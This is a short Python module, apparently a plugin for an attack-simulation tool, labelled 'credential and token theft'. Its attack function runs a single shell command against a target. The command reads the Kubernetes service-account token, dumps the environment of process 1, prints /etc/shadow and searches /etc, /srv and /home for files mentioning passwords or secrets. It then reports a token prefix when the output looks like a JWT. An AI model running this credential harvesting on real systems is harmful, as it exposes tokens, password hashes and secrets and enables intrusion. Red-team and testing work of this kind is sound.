# SPDX-License-Identifier: Apache-2.0
"""The service account's token, the environment of process 1 and the passwords, read by programs."""
KIND = "credential and token theft"
QUIET = False
SERVICES = dict.fromkeys(("python", "nginx", "ftp", "node"))


def attack(t):
    out = t.run(
        "cat /var/run/secrets/kubernetes.io/serviceaccount/token; tr '\\0' '\\n' </proc/1/environ; cat /etc/shadow;"
        " grep -rl -i -E 'password|secret' /etc /srv /home 2>/dev/null | head -20; echo ENDED"
    )
    return out[:40] + "..." if out.startswith("eyJ") and "ENDED" in out else ""
